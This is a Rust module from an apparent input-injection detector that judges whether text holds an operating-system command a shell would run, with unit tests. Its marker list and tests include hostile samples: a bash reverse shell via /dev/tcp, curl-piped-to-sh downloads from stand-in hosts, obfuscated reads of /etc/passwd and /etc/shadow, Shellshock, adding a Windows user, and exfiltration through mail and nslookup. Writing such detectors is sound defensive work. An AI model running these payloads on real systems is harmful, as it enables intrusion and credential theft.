//! Commands of an operating system: would a shell run something that the application did not write?
//!
//! A command is asked for where a shell begins one: after a separator, inside of a substitution, at the start. Its name is
//! read as a shell reads it, with quotes, backslashes and empty variables taken off. Names that are English words too
//! ("cat", "sleep", "id") must come with an argument that no sentence has.

mod leading;
mod local;
mod names;
mod place;

use super::marks::{self, Group};
use super::{ByteSet, Hit, Text};
use crate::bytes;
use crate::decision::Class;
use names::{ALONE, FILES, LISTED, NETWORK, is_english, is_rare, is_strong};
pub(super) use place::is_terse;
use place::{
    PROSE, Place, Ticks, is_all_there_is, is_choice, is_mentioned, is_only, is_table, prose_from,
    stands_alone,
};

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::OsCommand, at, why: why.into() });
    if let Some((at, why)) = marks(text) {
        return hit(at, why);
    }
    if let Some((at, why)) = leading::command(text) {
        return hit(at, why);
    }
    if text.bytes.intersects(ByteSet::from_list(b";|&\n\r`(%+")) {
        let mut prose = None;
        let mut ticks = Ticks::default();
        let mut near = None;
        let found = separators(text, &mut |at| {
            let inside = lower.get(at..).unwrap_or_default();
            let found = command(text, inside);
            if found == Strength::No {
                return None;
            }
            let substitution = at >= 2 && lower.get(at - 2..at) == Some(b"$(");
            let tick = at >= 1 && lower.get(at - 1) == Some(&b'`');
            let mut in_prose = || *prose.get_or_insert_with(|| prose_from(lower)) < at;
            let place = Place::of(lower, at);
            // What filters the output of another does nothing by itself.
            let filters = place.mark == b'|' && !place.doubled && local::only_filters(inside);
            let found = match found {
                Strength::Surely if filters => Strength::Named,
                found => found,
            };
            match found {
                // Whoever quotes a command within a sentence tells of it.
                Strength::Surely | Strength::Alone if ticks.are_told(lower, at) => near = near.or(Some(at)),
                // Names that a sentence may mean otherwise: `$(pwd)/bin`.
                Strength::Word if substitution && !is_terse(lower) => near = near.or(Some(at)),
                Strength::Vague | Strength::Named | Strength::Word if substitution => {
                    if memchr::memchr(b')', inside).is_some_and(|end| end < 256) {
                        return Some(hit(at, "a shell would run this and put its output here"));
                    }
                }
                Strength::Vague if tick && (in_prose() || is_mentioned(lower)) => near = near.or(Some(at)),
                Strength::Vague if tick || place.leads() || place.tight && place.mark != b'\n' => {
                    return Some(hit(at, SECOND));
                }
                Strength::Vague if place.mark != b'&' && stands_alone(lower, at) && !is_table(lower) => {
                    return Some(hit(at, SECOND));
                }
                Strength::Named if !tick && (place.leads() || place.packed) && is_terse(lower) => {
                    return Some(hit(at, SECOND));
                }
                Strength::Word if !tick && place.leads_surely() && is_terse(lower) => {
                    return Some(hit(at, SECOND));
                }
                Strength::Surely if !tick || !in_prose() => return Some(hit(at, SECOND)),
                Strength::Alone if !tick || !in_prose() && !is_mentioned(lower) => {
                    return Some(hit(at, SECOND));
                }
                Strength::Perhaps if substitution || tick && is_all_there_is(lower, at - 1) => {
                    return Some(hit(at, "a shell would run this and put its output here"));
                }
                Strength::Word if place.tight && is_only(lower, at) => return Some(hit(at, SECOND)),
                Strength::Perhaps if is_only(lower, at) => {
                    return Some(hit(at, "a shell would run this command, which is all there is"));
                }
                Strength::Perhaps
                    if !tick && place.mark != b'&' && stands_alone(lower, at) && !is_choice(lower) =>
                {
                    return Some(hit(at, SECOND));
                }
                _ => near = near.or(Some(at)),
            }
            None
        });
        if let Some(found) = found {
            return found;
        }
        if let Some(at) = near {
            text.suspect(Class::OsCommand, at, "the name of a command, where a shell would begin one");
        }
    }
    // At the start only what is a command through and through.
    let strength = command(text, lower.trim_ascii_start());
    // `id;`, `ls|`: nothing but the command, and the end that it needs.
    let bare = lower.trim_ascii_end();
    let ended = matches!(strength, Strength::Alone | Strength::Vague)
        && bare.len() <= 32
        && matches!(bare.last(), Some(b';' | b'|' | b'&'))
        && bare.iter().take(bare.len().saturating_sub(1)).all(|b| b.is_ascii_alphanumeric() || *b == b'/');
    if ended {
        return hit(0, "the text is a command by itself");
    }
    if strength != Strength::Surely {
        return None;
    }
    if !is_terse(lower) {
        text.suspect(Class::OsCommand, 0, "begins like a command");
        return None;
    }
    hit(0, "the text is a command by itself")
}

const SECOND: &str = "a shell would run a second command here";

/// What only a shell's language has, wherever it stands.
fn marks(text: &Text<'_>) -> Option<(usize, &'static str)> {
    if !text.marks.has(Group::Shell) {
        return None;
    }
    let lower = text.lower;
    for (at, mark) in marks::find(lower, 0, Group::Shell) {
        match mark {
            b"/dev/tcp/" | b"/dev/udp/" => return Some((at, "a connection that the shell itself opens")),
            b"() {" => {
                let body = lower.get(at..)?;
                let closed = [&b"};"[..], b"; }"].iter().any(|end| memchr::memmem::find(body, end).is_some());
                if at < 4 && closed {
                    return Some((at, "a function that a broken shell runs on import"));
                }
            }
            [b'$', ..] => return Some((at, "a blank written as a variable of the shell")),
            [b'%', ..] => return Some((at, "a piece of a variable of the shell of Windows")),
            b":(){" => return Some((at, "a function that calls itself until nothing is left")),
            [b'-', ..] => {
                let starts = at == 0 || lower.get(at - 1).is_some_and(u8::is_ascii_whitespace);
                if starts {
                    return Some((at, "an option that runs a program"));
                }
            }
            _ => return Some((at, "a shell with a command")),
        }
    }
    None
}

pub(super) const MARKS: &[&[u8]] = &[
    b"/dev/tcp/",
    b"/dev/udp/",
    b"cmd.exe /c",
    b"/bin/sh -",
    b"/bin/bash -",
    b"${ifs}",
    b"$ifs$9",
    b"$ifs/",
    b"${path:0:1}",
    b"${home:0:1}",
    b"${pwd:0:1}",
    b"${shell:0:1}",
    b"%comspec",
    b"%os:~",
    b"%cd:~",
    b"%path:~",
    b"%pathext:~",
    b"%temp:~",
    b"%appdata:~",
    b"%windir:~",
    b"%systemroot:~",
    b"%homepath:~",
    b"%username:~",
    b"%userprofile:~",
    b"%programfiles:~",
    b"%commonprogramfiles:~",
    b":(){",
    b"() {",
    b"-oproxycommand=",
    b"--upload-pack=",
    b"--checkpoint-action=",
    b"downloadstring(",
    b"iex(new-object",
    b"iex (new-object",
    b"iex(iwr",
    b"iex (iwr",
    b"iex(irm",
    b"iex (irm",
];

/// What the name of a command may begin with, as [`name`] reads it.
fn may_begin(text: &[u8]) -> bool {
    match text {
        [b'w', ..] => true,
        // A name has a letter next, or something that a shell takes off.
        [b'a'..=b'z', next, ..] => {
            next.is_ascii_lowercase()
                || matches!(
                    next,
                    b'/' | b'\'' | b'"' | b'\\' | b'^' | b'@' | b'$' | b'?' | b'*' | b'{' | b'.'
                )
        }
        [b'0'..=b'9' | b'\\' | b'^' | b'@' | b'{' | b'/' | b'.', ..] => true,
        [b'_' | b'-' | b'?' | b'*' | b':' | b'(' | b'!', ..] => true,
        [b'$', next, ..] => next.is_ascii_alphabetic() || matches!(next, b'@' | b'*' | b'\'' | b'0'),
        // A letter in quotes of its own, and more of the word behind it.
        [a @ (b'\'' | b'"'), b'a'..=b'z', b, b'a'..=b'z' | b'\'' | b'"', ..] => a == b,
        _ => false,
    }
}

/// A word that no name begins like, with nothing at its end that a shell would take off. After `then` there may be one.
fn is_no_name(inside: &[u8]) -> bool {
    let [a @ b'a'..=b'z', b @ b'a'..=b'z', ..] = inside else { return false };
    !begins_a_name(*a, *b) && (*a, *b) != (b't', b'h') && !is_dressed(inside.get(plain_length(inside)))
}

/// How long the part of a name is that is written as it is.
fn plain_length(from: &[u8]) -> usize {
    static PLAIN: [bool; 256] = bytes::table(b"abcdefghijklmnopqrstuvwxyz0123456789._-:");
    let part = |b: &u8| PLAIN.get(usize::from(*b)).copied().unwrap_or_default();
    let near = from.get(..48).unwrap_or(from);
    near.iter().position(|b| !part(b)).unwrap_or(near.len())
}

/// Behind such a part: a path goes on, or what a shell takes off.
fn is_dressed(next: Option<&u8>) -> bool {
    matches!(next, Some(b'/' | b'\'' | b'"' | b'\\' | b'^' | b'@' | b'$' | b'?' | b'*' | b'{'))
}

/// Asks about places where a shell begins a command, other than the start, until there is an answer. Blanks are skipped.
fn separators(text: &Text<'_>, ask: &mut dyn FnMut(usize) -> Option<Option<Hit>>) -> Option<Option<Hit>> {
    let lower = text.lower;
    let ask = |at: usize| {
        let rest = lower.get(at + 1..)?;
        static BEGINS: [bool; 256] =
            bytes::table(b"abcdefghijklmnopqrstuvwxyz0123456789\\^@{/._-?*:$(!'\" \t+");
        if rest.first().is_none_or(|b| BEGINS.get(usize::from(*b)) != Some(&true)) {
            return None;
        }
        if lower.get(at) == Some(&b'(')
            && !matches!(at.checked_sub(1).and_then(|i| lower.get(i)), Some(b'$' | b'<'))
        {
            return None;
        }
        // A name in quotes has a letter behind the first.
        if let [b'\'' | b'"', next, ..] = rest
            && !next.is_ascii_lowercase()
        {
            return None;
        }
        // A second separator has its own turn.
        let blanks = rest.iter().take(64).take_while(|b| matches!(b, b' ' | b'\t' | b'+')).count();
        let inside = rest.get(blanks..).unwrap_or_default();
        if inside.is_empty() || !may_begin(inside) {
            return None;
        }
        if !text.spend(4) {
            return Some(None);
        }
        if is_no_name(inside) { None } else { ask(at + 1 + blanks) }
    };
    const ALL: [u8; 7] = *b";|&\n\r`(";
    // `$(`, `<(`: a bracket alone parts nothing.
    let opens = text.bytes.intersects(ByteSet::from_list(b"$<"));
    let mut kinds = ALL.into_iter().filter(|kind| text.bytes.has(*kind) && (*kind != b'(' || opens));
    let first = kinds.next()?;
    // Few texts have more than three kinds of them, and three are found sooner.
    let few = [first, kinds.next().unwrap_or(first), kinds.next().unwrap_or(first)];
    if kinds.next().is_none() { bytes::find_map(lower, few, ask) } else { bytes::find_map(lower, ALL, ask) }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Strength {
    No,
    /// A name that is an English word or rarely meant, with whatever behind it.
    Word,
    /// A command's name, and behind it what may be its argument.
    Named,
    /// An English word that is a command's name as well, with nothing.
    Perhaps,
    /// A command's name that people list and mention, with nothing.
    Vague,
    /// A command's name with nothing.
    Alone,
    /// A command with an argument that no sentence has.
    Surely,
}

/// Judges what stands where a command may begin, behind what a shell allows before one: `( id`, `! id`, `do id`.
fn command(text: &Text<'_>, from: &[u8]) -> Strength {
    let inner = match from {
        [b'(' | b'!', rest @ ..] | [b'{', b' ', rest @ ..] => rest,
        [b'd', b'o', b' ', rest @ ..] | [b't', b'h', b'e', b'n', b' ', rest @ ..] => rest,
        [b'$', b'\'', b'a'..=b'z' | b'\\', ..] => return Strength::Surely,
        [b'$', b'0', b' ', b'-', ..] | [b'$', b'0', b'<', b'<', b'<', ..] => return Strength::Surely,
        [b'$', rest @ ..] if rest.first().is_some_and(u8::is_ascii_alphabetic) => {
            return variable(text, rest);
        }
        _ => return plain_command(text, from),
    };
    // What stands alone here is at home in prose: "do test it", "(set)".
    match plain_command(text, inner.trim_ascii_start()) {
        Strength::Perhaps | Strength::Word | Strength::Named => Strength::No,
        Strength::Vague => Strength::Alone,
        strength => strength,
    }
}

/// A command in a variable that the text has set before: `a=id;$a`. Or the shell's own name, with an option.
fn variable(text: &Text<'_>, name: &[u8]) -> Strength {
    let length = name.iter().take(24).take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
    let (name, rest) = name.split_at_checked(length).unwrap_or_default();
    let own = matches!(name, b"shell" | b"bash");
    if own && rest.starts_with(b" -") {
        return Strength::Surely;
    }
    let before = text.lower.get(..text.lower.len().min(512)).unwrap_or_default();
    if !text.spend(120) || !matches!(rest.first(), None | Some(b'$' | b' ' | b';' | b'|' | b'&')) {
        return Strength::No;
    }
    let set = memchr::memmem::find_iter(before, name).any(|at| {
        before.get(at + length) == Some(&b'=')
            && (at == 0 || matches!(before.get(at - 1), Some(b';' | b' ' | b'&' | b'|' | b'\n')))
    });
    if set { Strength::Surely } else { Strength::No }
}

/// A command by its name.
fn plain_command(text: &Text<'_>, from: &[u8]) -> Strength {
    let mut letters = [0; 48];
    let plain = plain_length(from);
    let dressed = is_dressed(from.get(plain));
    if !dressed {
        match from.get(..plain) {
            Some([a @ b'a'..=b'z', b @ b'a'..=b'z', ..]) if !begins_a_name(*a, *b) => return Strength::No,
            Some([] | [b'a'..=b'v' | b'x'..=b'z']) => return Strength::No,
            // No name has anything but letters first, `w.exe` aside.
            Some([_, b, ..]) if !b.is_ascii_lowercase() && *b != b'.' => return Strength::No,
            _ => {}
        }
    }
    let (length, rest) =
        if dressed { name(from, &mut letters) } else { (0, from.get(plain..).unwrap_or_default()) };
    let read = if dressed { letters.get(..length) } else { from.get(..plain) };
    let (name, path) = base(read.unwrap_or_default());
    // A wildcard stands for whatever the guard would know.
    let wild = path && name.iter().any(|b| matches!(b, b'?' | b'*'));
    let (known, english) = (wild || is_strong(name), is_english(name));
    let rare = !known && !english && (is_rare(name) || is_cmdlet(name));
    if !known && !english && !rare || !text.spend(60) {
        return Strength::No;
    }
    // Nobody writes a name in pieces but to hide it.
    if dressed && (known || english) && hides(from, length) {
        return Strength::Surely;
    }
    // `{cat,/etc/passwd}`
    if from.first() == Some(&b'{')
        && let Some(argument) = rest.strip_prefix(b",")
    {
        let acts = is_argument(argument, name) || is_argument(argument.trim_ascii_end(), name);
        return if acts { Strength::Surely } else { Strength::No };
    }
    let glued = rest
        .first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'\'' | b':' | b'='));
    if glued {
        return Strength::No;
    }
    let argument = rest.trim_ascii_start();
    let ends = argument.first().is_none_or(|b| {
        matches!(b, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'"' | b'\'' | b'>' | b'<' | 0)
    }) || argument.starts_with(b"//");
    // `;base64,`, `;format=flowed`: what a shell reads as one word is another name.
    let parted = rest
        .first()
        .is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'+' | b'<' | b'>' | b'$' | b'{' | b'%'));
    // `for /f %i in ('whoami') do`, as only Windows has it.
    if name == b"for" && matches!(argument, [b'/', b'f' | b'l' | b'r' | b'd', b' ', ..]) {
        return Strength::Surely;
    }
    // `set -e` sets how a shell runs what it would run anyway.
    if name == b"set" && matches!(argument, [b'-' | b'+', b'a'..=b'z', ..]) {
        return Strength::Word;
    }
    if rare {
        if !parted && !ends {
            return Strength::No;
        }
        return if is_cmdlet(name) || is_argument(argument, name) { Strength::Named } else { Strength::Word };
    }
    if path && (ends || is_argument(argument, name)) {
        return Strength::Surely;
    }
    if is_argument(argument, name) {
        return if local::stays(name, argument) { Strength::Named } else { Strength::Surely };
    }
    if (known || FILES.contains(&name)) && names_a_place(argument) {
        return Strength::Surely;
    }
    if ends && reads_a_machine(name, argument) {
        return Strength::Surely;
    }
    // `time sleep 5`, `sudo id`: the argument is the command.
    if matches!(
        name,
        b"busybox" | b"time" | b"sudo" | b"nohup" | b"exec" | b"env" | b"command" | b"xargs" | b"eval"
    ) {
        let mut letters = [0; 48];
        let (length, rest) = self::name(argument, &mut letters);
        let inner = letters.get(..length).unwrap_or_default();
        if (is_strong(inner) || is_english(inner)) && is_argument(rest.trim_ascii_start(), inner) {
            return Strength::Surely;
        }
        let alone = || {
            rest.trim_ascii_start()
                .first()
                .is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        };
        if is_strong(inner) && inner != name && !matches!(name, b"time" | b"command") && alone() {
            return Strength::Surely;
        }
    }
    match (known, ends) {
        (true, true) if LISTED.contains(&name) => Strength::Vague,
        (true, true) => Strength::Alone,
        (true, false) if parted => Strength::Named,
        (false, true) if ALONE.contains(&name) => Strength::Perhaps,
        // `&copy 2026` has lost its semicolon.
        (false, _) if matches!(name, b"copy" | b"sort" | b"cut") => Strength::No,
        (false, true) => Strength::Word,
        (false, false) if parted => Strength::Word,
        _ => Strength::No,
    }
}

/// True if quotes, carets, backslashes or empty variables stand within the letters of a name.
fn hides(from: &[u8], length: usize) -> bool {
    let written = from.get(..(length + 24).min(from.len())).unwrap_or_default();
    let mut letters = 0;
    let mut pieces = 0;
    for byte in written {
        match byte {
            b'a'..=b'z' | b'0'..=b'9' => letters += 1,
            b'\'' | b'"' | b'\\' | b'^' | b'$' | b'@' | b'*' if letters > 0 => pieces += 1,
            b'.' | b'_' | b'-' | b'/' | b'?' | b'{' | b'}' => {}
            _ => break,
        }
        if letters >= length {
            break;
        }
    }
    // What opens a path in quotes, or ends a name, is no piece of it.
    pieces >= 2
        || pieces == 1 && letters >= length && length > 2 && written.iter().any(|b| matches!(b, b'\\' | b'^'))
}

/// `get-process`: a verb and a noun of `PowerShell`.
fn is_cmdlet(name: &[u8]) -> bool {
    let Some(dash) = memchr::memchr(b'-', name) else { return matches!(name, b"iwr" | b"irm" | b"iex") };
    let (verb, noun) = name.split_at_checked(dash).unwrap_or_default();
    let verbs: [&[u8]; 12] = [
        b"get", b"set", b"new", b"remove", b"start", b"stop", b"invoke", b"write", b"out", b"add", b"import",
        b"copy",
    ];
    let nouns: [&[u8]; 22] = [
        b"-process",
        b"-service",
        b"-childitem",
        b"-content",
        b"-item",
        b"-itemproperty",
        b"-wmiobject",
        b"-wmimethod",
        b"-ciminstance",
        b"-webrequest",
        b"-restmethod",
        b"-expression",
        b"-command",
        b"-object",
        b"-location",
        b"-localuser",
        b"-localgroup",
        b"-aduser",
        b"-eventlog",
        b"-acl",
        b"-module",
        b"-scheduledtask",
    ];
    verbs.contains(&verb) && nouns.contains(&noun)
}

/// `grep root /etc/passwd`, `chmod 777 /tmp/x`, `find . -exec`: a second or third word that is a place of the system or an
/// option, and no word before it that only prose has.
fn names_a_place(argument: &[u8]) -> bool {
    const ROOTS: &[&[u8]] =
        &[b"etc/", b"tmp/", b"var/", b"dev/", b"proc/", b"usr/", b"root/", b"home/", b"bin/", b"opt/"];
    let line = argument.get(..160).unwrap_or(argument);
    let line = line.split(|b| matches!(b, b'\n' | b';' | b'|' | b'&')).next().unwrap_or_default();
    for word in line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).take(3) {
        let word = word.strip_prefix(b"if=").or_else(|| word.strip_prefix(b"of=")).unwrap_or(word);
        if word.strip_prefix(b"/").is_some_and(|path| ROOTS.iter().any(|root| path.starts_with(root)))
            || word == b"-exec"
        {
            return true;
        }
        if PROSE.contains(&word) || word.ends_with(b",") || word.ends_with(b".") && word.len() > 1 {
            return false;
        }
    }
    false
}

/// `env | grep x`: what a process was given, and a tool that looks through it.
fn reads_a_machine(name: &[u8], argument: &[u8]) -> bool {
    let piped = argument.strip_prefix(b"|").map(<[u8]>::trim_ascii_start);
    matches!(name, b"env" | b"set" | b"printenv" | b"history")
        && piped.is_some_and(|p| {
            [&b"grep "[..], b"sort", b"head", b"tail", b"cut ", b"tee ", b"base64", b"nc "]
                .iter()
                .any(|tool| p.starts_with(tool))
        })
}

/// The name as the shell reads it: its length, and what follows.
fn name<'a>(text: &'a [u8], name: &mut [u8; 48]) -> (usize, &'a [u8]) {
    let mut length = 0;
    let mut rest = match text {
        // `'w'h'o'`: whoever quotes single letters hides a name.
        [a @ (b'\'' | b'"'), b'a'..=b'z', b, ..] if a == b => text.get(1..).unwrap_or_default(),
        _ => text,
    };
    // Quotes and variables that stand for nothing are no part of a name, and nobody needs many of them.
    for _ in 0..256 {
        match rest {
            [b'\'' | b'"' | b'\\' | b'^' | b'@', more @ ..]
                if length > 0 || matches!(rest.first(), Some(b'\\' | b'^' | b'@')) =>
            {
                rest = more;
            }
            [b'$', b'@' | b'*', more @ ..] => rest = more,
            [b'$', b'{', inside @ ..] if length > 0 => {
                let Some(end) = inside.iter().take(16).position(|b| *b == b'}') else { break };
                rest = inside.get(end + 1..).unwrap_or_default();
            }
            [b'{', more @ ..] if length == 0 => rest = more,
            [b, more @ ..]
                if b.is_ascii_alphanumeric()
                    || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b':') =>
            {
                let Some(slot) = name.get_mut(length) else { break };
                *slot = *b;
                length += 1;
                rest = more;
            }
            _ => break,
        }
    }
    (length, rest)
}

/// The first two letters of every name below; a test holds them together.
const STARTS: &[u8] =
    b"ad al ap ar as at aw ba bc bi bu ca cd ce ch cm co cp cr cs cu da dd de df di dm do dr du ec en \
    ev ex fa fi fo fr fs ft ga gc ge gp gr gz ha he hi ho ic id ie if im in ip ir iw jo ki kl ks ku la \
    ld le ln lo ls lu ma md mk mo ms mv my na nb nc ne ni nl nm no np ns od op ou pa pe ph pi pk po pr \
    ps pw py qu qw rd re rm ro rs ru sc se sh sl so ss st su sy ta tc te tf ti to tr tt ty un up us ve \
    vi vs wa we wg wh wm wr ws xa xc xt xx ye zi zs ";

#[expect(clippy::indexing_slicing, reason = "evaluated by the compiler")]
const fn starts(list: &[u8]) -> [u32; 26] {
    let mut table = [0; 26];
    let mut list = list;
    while let [a, b, b' ', rest @ ..] = list {
        table[(*a - b'a') as usize] |= 1 << (*b - b'a');
        list = rest;
    }
    table
}

/// Whether some name begins with these two letters, which tells most words from names at once.
fn begins_a_name(a: u8, b: u8) -> bool {
    static TABLE: [u32; 26] = starts(STARTS);
    TABLE.get(usize::from(a - b'a')).is_some_and(|seconds| seconds & 1 << (b - b'a') != 0)
}

/// The last part of a path, without `.exe`; true if it was a path to a folder of programs.
fn base(name: &[u8]) -> (&[u8], bool) {
    let (folder, last) = match memchr::memrchr(b'/', name) {
        Some(at) => (name.get(..at).unwrap_or_default(), name.get(at + 1..).unwrap_or_default()),
        None => (&b""[..], name),
    };
    let last = last.strip_suffix(b".exe").unwrap_or(last);
    let programs = folder.ends_with(b"bin") || folder.ends_with(b"/bin") || folder.contains(&b'?');
    (last, programs)
}

/// True for an argument that no sentence has.
fn is_argument(text: &[u8], name: &[u8]) -> bool {
    let word = text
        .iter()
        .take(128)
        .take_while(|b| !matches!(b, b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        .count();
    // What closes an element is no part of it.
    let word = memchr::memmem::find(text.get(..word).unwrap_or_default(), b"</")
        .filter(|at| *at > 0)
        .unwrap_or(word);
    let (word, rest) = text.split_at(word);
    match word {
        [b'-', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
        [b'/', next, ..] => next.is_ascii_alphanumeric() || matches!(next, b'?' | b'*' | b'\'' | b'"'),
        b"s3" | b"ec2" | b"iam" | b"sts" | b"lambda" | b"secretsmanager" | b"ssm" if name == b"aws" => true,
        b"addr" | b"a" | b"route" | b"link" | b"neigh" if name == b"ip" => {
            rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        b"process" | b"os" | b"useraccount" | b"service" if name == b"wmic" => true,
        [b'@', ..] if name == b"dig" => true,
        _ if matches!(name, b"ssh" | b"scp") && word.contains(&b'@') => true,
        [b'~' | b'$' | b'*', ..] => word.len() > 1,
        [b'%', name @ .., b'%'] => {
            name.len() > 2 && name.iter().all(|b| b.is_ascii_alphabetic() || *b == b'_')
        }
        [b'.', b'/' | b'.', ..] => word.len() > 2,
        // `</p>` closes an element.
        [b'<', b'/', tag @ ..] if tag.ends_with(b">") => false,
        [b'>' | b'<', ..] => is_redirection(text),
        [drive, b':', ..] if drive.is_ascii_alphabetic() => {
            word.len() <= 3 || matches!(word.get(2), Some(b'\\' | b'/'))
        }
        // `find / -name x`
        b"/" => matches!(name, b"find" | b"ls" | b"du" | b"cd") && rest.trim_ascii_start().starts_with(b"-"),
        b"aux" | b"auxw" | b"axu" | b"ax" => name == b"ps",
        b"user" | b"users" | b"localgroup" | b"view" | b"share" => {
            name == b"net" && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        b"add" | b"query" | b"delete" | b"save" | b"export" if name == b"reg" => {
            rest.trim_ascii_start().starts_with(b"hk")
        }
        _ if memchr::memmem::find(word, b"://").is_some() => true,
        _ if name == b"sleep" || name == b"timeout" => {
            word.iter().all(u8::is_ascii_digit)
                && !word.is_empty()
                && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        _ if NETWORK.contains(&name) => is_host(word),
        _ if FILES.contains(&name) => word.contains(&b'/') && !word.ends_with(b"/") || is_file(word),
        _ => false,
    }
}

/// `> /tmp/x`, `>>log.txt`, `<<<text`, `<(id)`: not `date > 2026-01-31`, which compares.
fn is_redirection(text: &[u8]) -> bool {
    // `<b>` is an element.
    if let [b'<', name, ..] = text
        && name.is_ascii_alphabetic()
        && text.iter().take(64).any(|b| *b == b'>')
    {
        return false;
    }
    let target = match text {
        [b'>', b'&' | b'(', ..] | [b'<', b'(', ..] | [b'<', b'<', b'<', ..] => return true,
        [b'>', b'>' | b'|', rest @ ..] | [b'<', b'<', rest @ ..] | [_, rest @ ..] => rest.trim_ascii_start(),
        [] => return false,
    };
    let ends = |b: &u8| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b'`' | b')');
    let word = target.iter().take(128).position(ends).map_or(target, |end| target.split_at(end).0);
    let named = word.iter().any(u8::is_ascii_alphabetic);
    matches!(word, [b'$' | b'~' | b'%', _, ..])
        || named && (word.contains(&b'/') || word.contains(&b'\\') || is_file(word))
}

fn is_host(word: &[u8]) -> bool {
    word.len() > 3
        && word.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'/'))
        && word.get(1..word.len() - 1).is_some_and(|w| w.contains(&b'.'))
}

fn is_file(word: &[u8]) -> bool {
    let dot = memchr::memrchr(b'.', word);
    dot.is_some_and(|at| {
        at > 0
            && (2..=4).contains(&(word.len() - at - 1))
            && word.iter().skip(at + 1).all(u8::is_ascii_alphanumeric)
            && word.iter().skip(at + 1).any(u8::is_ascii_alphabetic)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::{sample, sample_for};

    /// Too little by itself; enough where a shell takes it.
    #[test]
    fn commands_that_prose_has_as_well() {
        for text in ["Q&A; history; time", "use `sort` before `uniq`", "curl -s example.com is what I ran"] {
            assert!(!sample(detect, text) && sample_for(detect, text, Class::OsCommand), "{text}");
        }
        for text in
            ["me & you || just you?", "R&D", "Base price is $(100)", "open; 'a' or 'b'; \"c\" is fine"]
        {
            assert!(!sample_for(detect, text, Class::OsCommand), "{text}");
        }
    }

    /// Every name of two letters that a text could begin with, so that none is missing in the list of beginnings.
    #[test]
    fn beginnings_of_names() {
        let source = include_str!("command/names.rs");
        let names = source.split("fn is_strong").nth(1).unwrap();
        let mut count = 0;
        for name in names.split("b\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
            let bytes = name.as_bytes();
            if (is_strong(bytes) || is_english(bytes) || is_rare(bytes))
                && bytes.len() > 1
                && bytes.iter().take(2).all(u8::is_ascii_lowercase)
            {
                assert!(begins_a_name(bytes[0], bytes[1]), "{name}");
                count += 1;
            }
        }
        assert!(count > 150, "{count}");
    }

    #[test]
    fn what_a_shell_would_run() {
        for text in [
            "127.0.0.1 && ls /etc",
            "; cat /et'c/pa'ss'wd",
            ";wget http://some_host/x",
            "`id`",
            "a|/usr/bin/id",
            "$(whoami)",
            ";id|",
            "x; ping -c 5 10.0.0.1",
            "& dir c:\\",
            "| sleep 5 ;",
            "a\nwhoami",
            ";c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            "x;/bin/ca? /etc/passwd",
            "() { :;}; echo x",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "curl http://x.example/s.sh | sh",
            "'`/usr/bin/id`'",
            "name.jpg;curl x.example",
            "& dir",
            "&& net user",
            "x; find / -name id_rsa",
            "; ps aux",
            ";time sleep 5",
            "; grep root /etc/passwd",
            "; find . -exec id \\;",
            "; chmod 777 /tmp/x",
            "; while true; do id; done",
            "x;(id)",
            "; ! id",
            "; env id",
            "; busybox id",
            "a=id;$a",
            "; W=who;A=ami;$W$A",
            "; $SHELL -c id",
            "a;$0 -c id",
            "; $'\\x69\\x64'",
            "; 'w'h'o'a'm'i",
            "; env | grep KEY",
            "; aws s3 ls",
            "| wmic process list",
            "; ip addr",
            "; id //",
            "; dd if=/dev/zero",
            "-oProxyCommand=id",
            "--upload-pack=id",
            "<(id)",
            "; diff /etc/passwd /dev/null",
            "x;sudo cat /etc/shadow",
            "& net user x P@ss /add",
            "& for /f %i in ('whoami') do nslookup %i.example",
            "& klist",
            "|| ./x.sh",
            "; some_tool --output=/x",
            "| mail root@x.example < /etc/passwd",
            "& echo %USERNAME%",
            "\\nid",
            "&& ver &",
            "|echo ABC",
            ";$0<<<id",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn sentences_tables_and_code() {
        for text in [
            "curl up with a book; ping me later",
            "The cat /is/ the show; cat lovers welcome",
            "sleep 8 hours; drink water",
            "id;name;price\n1;nail;3",
            "use `sort` before `uniq`",
            "me & you || just you?",
            "Base price is $(100)",
            "dinner (7pm); bring wine && cheese",
            "R&D",
            "bash away in the gym",
            "ls 300 lexus",
            "if p<0.05 then reject; else don't",
            "| a | b |\n|---|---|",
            "Tom & Ann; find us at the fair",
            "Q&A: date; time; place",
            "Q&A; history; time",
            "cats & dogs; env & health",
            "feat(api): add `id` to response; fix #12",
            "We find / discover the best; ls is short for list",
            "time flies; time heals; sudo make me a sandwich",
            "net user growth was 5%; net view is better",
            "cut & paste",
            "chores; do test it (set), then find out; then time it",
            "costs; $a or $b; price=$5",
            "Q&A; ip address; id card; do ls have a plural",
            "env; set; (env) | a",
            "find us on /r/berlin; find more at /usr, they said",
            "open; 'a' or 'b'; \"c\" is fine",
            "red; (blue); !important; then home",
            "we sell; aws certified staff; ip rights",
            "mocha && eslint . && node dist/index.js",
            "rm -rf ./build; make",
            "`rm -rf` in Makefile deletes too much",
            "Use `ls -la` to list files; use `cd` to move.",
            "The shell's `for f in *.txt; do echo $f; done` loop is handy.",
            "git log --oneline | head -5 shows the commit; git bisect doesn't.",
            "Use ${HOME}/bin or $(pwd)/bin",
            "set -e; set -x are shell options",
            "& Sons /London",
            "| -x | --help |",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
